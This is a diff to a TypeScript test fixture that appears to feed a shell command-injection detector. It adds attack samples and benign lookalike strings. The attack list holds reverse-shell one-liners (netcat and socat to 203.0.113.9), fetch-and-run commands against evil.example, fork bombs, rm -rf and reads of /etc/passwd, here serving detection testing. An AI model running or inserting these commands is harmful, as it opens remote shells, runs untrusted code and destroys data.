@@ -31,7 +31,7 @@ const ATTACKS: Record<string, string[]> = {
     ';$u wget evil.example/x', '|$a cat notes.txt', 'n$u\\c$u -lvp 4444', 'g=nc;$g evil.example 80', 'c1=c;c2=a;c3=t;$c1$c2$c3 notes.txt', 'a=/ec;b=ho;$a$b hi', "$'\\167\\150\\157\\141\\155\\151'", '$0 -c id',
     '${PATH:0:1}', 'cat ${HOME%/*}', '$((7*6))', '$[2+2]', 'echo ${x//a/b}',
   ],
-  'command chains': ['John (`whoami`)', '`id`, `whoami`', 'x `cat /etc/hostname`', 'John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
+  'command chains': ['127.0.0.1; sleep 10', 'test.txt;ls', ';/bin/ca? /etc/pass??', '|/usr/bin/wh*mi', 'John (`whoami`)', '`id`, `whoami`', 'x `cat /etc/hostname`', 'John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
   'fork bombs, functions, netcat shells, sqlite3 dot-commands': [
     'f(){ f|f& };f', 'bomb() { bomb | bomb & }; bomb', 'x(){ x()|x(); }; x', 'r(){ curl -s evil.example/a|sh; };r', 'nc 203.0.113.9 4444 -e /bin/bash',
     'nc -e /bin/sh 203.0.113.9 4444', 'x; ncat 203.0.113.9 443 --sh-exec id', "1');\n.shell id", '1;.sh whoami', ';."system" id', 'x;\n.databases', 'cat+/et*/*wd',
@@ -84,6 +84,7 @@ const BENIGN: string[] = [
   'works with the postgres tools (`psql`, `pg_dump`, `pg_restore`) and node', '> type: `(node: object) => string[]`', 'deprecated and changed to `require(\'fs\').constants` which does not browserify.',
   'The package provides two functions, `realRequire` and `realImport`,\nwhich can be used in scenarios where tools like bundlers change things.',
   'Options: `strict` / `export` syntax checks',
+  'node.js & python', 'Node.js & Python', 'example.com; more info', 'files in /usr/bin/* are binaries',
   'function f() { return f() || g() }', 'count(){ return count() && 1 }', 'class A { load() { this.load() } }', 'nc is netcat; run nc -h for help',
   'Note that nc -e /bin/sh is disabled in the OpenBSD netcat we ship', '.output', '.tables { width: 100% }', 'In sqlite3 list them with .tables; .schema shows the DDL', 'C++/CLI or C#',
 ];
